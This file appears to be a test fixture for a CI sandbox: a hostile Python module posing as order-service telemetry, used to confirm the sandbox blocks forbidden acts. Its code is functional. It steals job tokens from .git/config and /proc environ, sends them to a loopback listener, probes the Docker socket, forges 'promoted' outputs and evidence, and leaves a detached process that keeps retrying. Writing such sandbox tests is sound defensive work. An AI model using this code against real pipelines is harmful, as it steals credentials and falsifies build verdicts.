"""Usage telemetry for the order service: the hostile candidate of `make container-test`.

The test writes this file into the candidate as ``src/orders/_telemetry.py`` (``__NONCE__`` and
``__PORT__`` replaced), imports it from ``orders/__init__.py`` and calls :func:`report` from
``order_total_cents``. It tries, at import time and in the called function, every act the
sandbox must refuse (docs/design.md §8.2): a TCP connection to the test's listener on the host
loopback, ``GET /_ping`` on the real Docker socket, reading the job token in
``/github/workspace/.git/config``, the canaries in ``/github/home`` and the token in the gate's
environment (``/proc/PID/environ``), signalling its parent, and writing into the workspace (and its
``.git/hooks``), the evidence directory, the runner's file commands (forging ``outcome=promoted``)
and every other mounted directory. A process it leaves behind (double fork, ``setsid``) keeps
trying for a minute, also to overwrite the evidence after the gate wrote it.

What succeeded is reported through every channel the code can reach: the listener, the socket,
files it manages to write, stdout, and the called function raises an exception naming each act
that succeeded (with what it read) only when one did, so the evidence (runs.json) carries it. The
test then checks the host side; nothing here decides the verdict.
"""

from __future__ import annotations

import base64
import contextlib
import glob
import json
import os
import re
import socket
import time
from collections.abc import Callable

NONCE = "__NONCE__"
PORT = int("__PORT__")
TAG = f"HOSTILE-{NONCE}"
DOCKER_SOCKET = "/var/run/docker.sock"
EVIDENCE = "/github/runner_temp/verdict-gate"
WRITE_DIRS = (
    "/github/workspace", "/github/workspace/.git", "/github/workspace/.git/hooks", "/github/workspace/src/orders",
    "/github/runner_temp", EVIDENCE, "/github/home", "/github/workflow", "/github/file_commands",
)
SECRET_FILES = (
    "/github/workspace/.git/config", "/github/home/.canary-secret", "/github/home/.netrc",
    "/github/runner_temp/_github_home/.canary-secret",
)
FORGED = {  # what each runner file command would make of an appended line
    "set_output_": "outcome=promoted\npromoted=true\n",
    "step_summary_": "## verdict-gate: **promoted**\n",
    "set_env_": f"HOSTILE_{NONCE}=1\n",
    "add_path_": f"/tmp/hostile-{NONCE}\n",
    "save_state_": f"HOSTILE_{NONCE}=1\n",
}

FINDINGS: dict[str, str] = {}  # act -> "ok: …" or "refused: …"
SECRETS: dict[str, str] = {}  # where -> what was read


def _attempt(name: str, act: Callable[[], object]) -> None:
    try:
        FINDINGS[name] = f"ok: {act()}"[:300]
    except BaseException as exc:  # whatever form the sandbox's refusal takes
        FINDINGS[name] = f"refused: {type(exc).__name__}: {exc}"[:300]


def _report_line(when: str) -> bytes:
    return f"{TAG} {when} {json.dumps({'findings': FINDINGS, 'secrets': SECRETS})}\n".encode()


def _tcp(when: str) -> str:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as conn:
        conn.sendall(_report_line(when))
    return f"connected to 127.0.0.1:{PORT} and sent the findings"


def _unix_http(request: bytes) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(5)
        conn.connect(DOCKER_SOCKET)
        conn.sendall(request)
        return conn.recv(65536).decode(errors="replace")


def _docker() -> str:
    reply = _unix_http(f"GET /_ping?{TAG} HTTP/1.0\r\nHost: docker\r\nUser-Agent: {TAG}\r\n\r\n".encode())
    status = reply.split("\r\n", 1)[0]
    if " 200 " in status:  # the daemon answers: leave a trace the test can see (a volume, removed by it)
        body = json.dumps({"Name": f"vg-hostile-{NONCE}"})
        _unix_http(f"POST /volumes/create?{TAG} HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
                   f"Content-Length: {len(body)}\r\n\r\n{body}".encode())
    return status


def _read(path: str) -> str:
    with open(path, encoding="utf-8", errors="replace") as fh:
        text = fh.read()
    SECRETS[path] = text[-1500:]
    for header in re.findall(r"AUTHORIZATION: basic (\S+)", text):  # persist-credentials: the job token
        SECRETS[f"{path} token"] = base64.b64decode(header).decode(errors="replace")
    return f"read {len(text)} bytes"


def _environ(pid: int) -> str:
    with open(f"/proc/{pid}/environ", "rb") as fh:
        pairs = fh.read().split(b"\0")
    wanted = (b"INPUT_GITHUB-TOKEN", b"GITHUB_TOKEN", b"ACTIONS_RUNTIME_TOKEN")
    found = [p.decode(errors="replace") for p in pairs if p.split(b"=", 1)[0] in wanted]
    if found:
        SECRETS[f"/proc/{pid}/environ"] = ";".join(found)
    return f"{len(pairs)} variables, {len(found)} tokens"


def _signal_parent() -> str:
    os.kill(os.getppid(), 0)
    return f"may signal pid {os.getppid()}"


def _write(directory: str, when: str) -> str:
    path = os.path.join(directory, f"{TAG}-{when}.txt")
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(_report_line(when).decode())
    return f"wrote {path}"


def _append(path: str, when: str) -> str:
    name = os.path.basename(path)
    forged = next((text for prefix, text in FORGED.items() if name.startswith(prefix)), "")
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(f"\n{forged}hostile-{NONCE}-{when}=1\n")
    return f"appended to {path}"


def _overwrite(path: str, when: str) -> str:
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"forged_by": TAG, "when": when, "outcome": "promoted"}))
    return f"overwrote {path}"


def attempt_all(when: str) -> None:
    """Every forbidden act once; ``when`` names the moment (import, call, late)."""
    for path in SECRET_FILES:
        _attempt(f"read {path}", lambda path=path: _read(path))
    for pid in sorted({1, os.getppid()}):
        _attempt(f"read /proc/{pid}/environ", lambda pid=pid: _environ(pid))
    _attempt("signal the parent process", _signal_parent)
    _attempt(f"tcp connect 127.0.0.1:{PORT}", lambda: _tcp(when))
    _attempt(f"connect {DOCKER_SOCKET}, GET /_ping", _docker)
    for directory in WRITE_DIRS:
        _attempt(f"write into {directory}", lambda directory=directory: _write(directory, when))
    for path in sorted(glob.glob("/github/file_commands/*")):
        _attempt(f"append to {path}", lambda path=path: _append(path, when))
    if when == "late":
        for path in sorted(glob.glob(os.path.join(EVIDENCE, "*"))):
            _attempt(f"overwrite {path}", lambda path=path: _overwrite(path, when))
    with contextlib.suppress(OSError, ValueError):  # no stdout (closed, or a pipe nobody reads)
        print(_report_line(when).decode(), end="", flush=True)


def succeeded() -> list[str]:
    """The forbidden acts that worked (forking is allowed: the gate reaps what the worker starts)."""
    return [name for name, result in FINDINGS.items() if result.startswith("ok:") and not name.startswith("fork")]


def _linger() -> None:
    """A process that outlives the worker (double fork, new session) and keeps trying for a minute."""
    try:
        child = os.fork()
    except OSError as exc:
        FINDINGS["fork a lingering process"] = f"refused: {exc}"
        return
    if child:
        os.waitpid(child, 0)
        FINDINGS["fork a lingering process"] = "ok: forked"
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            time.sleep(0.5)
            attempt_all("late")
    finally:
        os._exit(0)


def report(where: str) -> None:
    """Called by the candidate's code: every act again, then tell the caller what worked."""
    attempt_all(f"call-{where}")
    done = succeeded()
    if done:
        raise RuntimeError(f"{TAG} succeeded: {json.dumps(done)} secrets: {json.dumps(SECRETS)}")


attempt_all("import")
_linger()
